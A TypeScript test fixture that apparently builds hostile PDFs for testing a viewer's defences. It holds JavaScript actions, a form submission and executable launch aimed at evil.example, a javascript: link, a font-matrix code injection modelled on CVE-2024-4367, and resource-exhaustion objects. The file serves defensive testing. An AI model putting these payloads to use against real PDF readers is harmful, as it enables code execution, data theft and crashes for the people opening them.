import { stream, writePdf, type PdfObject } from "./writePdf.ts";

const program = (text: string): string => `<< /S /JavaScript /JS (${text}) >>`;

/** Whatever a file can hold that should run, open, fetch, send or fill: each would set `harm` or be seen on the network. */
export function hostilePdf(): number[] {
  const harm = program("globalThis.harm = 1; app.alert\\('harm'\\); this.submitForm\\('https://evil.example/'\\)");
  const link = (action: string): string =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 3] /A ${action} /AA << /E ${harm} /U ${harm} >> >>`;
  const objects: PdfObject[] = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${harm} /AA << /WC ${harm} >> /AcroForm 6 0 R
/Names << /JavaScript << /Names [(a) ${harm}] >> /EmbeddedFiles << /Names [(x.html) 9 0 R] >> >> >>`,
    // Leads back to itself, and claims a million pages.
    "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 1000000 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O ${harm} >> /Contents 4 0 R
/Resources << /Font << /F 5 0 R >> /Shading << /S 10 0 R >> /XObject << /I 11 0 R >> >> /Annots [7 0 R 8 0 R 12 0 R] >>`,
    stream("/S sh q 100 0 0 100 0 0 cm /I Do Q BT /F 30 Tf 60 700 Td (hostile) Tj ET"),
    // A matrix of a typeface was once pasted into a program (CVE-2024-4367).
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\);globalThis.harm=1;//)] >>",
    `<< /Fields [12 0 R] /XFA 4 0 R /CO [12 0 R] >>`,
    link("<< /S /URI /URI (javascript:globalThis.harm=1) >>"),
    link("<< /S /Launch /F (https://evil.example/x.exe) >>"),
    "<< /Type /Filespec /F (x.html) /EF << /F 4 0 R >> >>",
    "<< /ShadingType 2 /ColorSpace /DeviceRGB /Coords [0 0 595 842] /Function 13 0 R >>",
    stream("x", "/Type /XObject /Subtype /Image /Width 2000000 /Height 2000000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [60 600 300 640] /V (typed) /AA << /F ${harm} /K ${harm} /C ${harm} >> >>`,
    // A PostScript function, which pdf.js compiles where a policy lets it.
    stream("{ dup 0.5 mul dup }", "/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]"),
  ];
  return writePdf(objects);
}

/** Its keys fit no password. */
export function lockedPdf(): number[] {
  const key = `<${"5a".repeat(32)}>`;
  return writePdf(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [] /Count 0 >>",
      `<< /Filter /Standard /V 1 /R 2 /O ${key} /U ${key} /P -4 >>`,
    ],
    "/Encrypt 3 0 R /ID [<00> <00>]",
  );
}
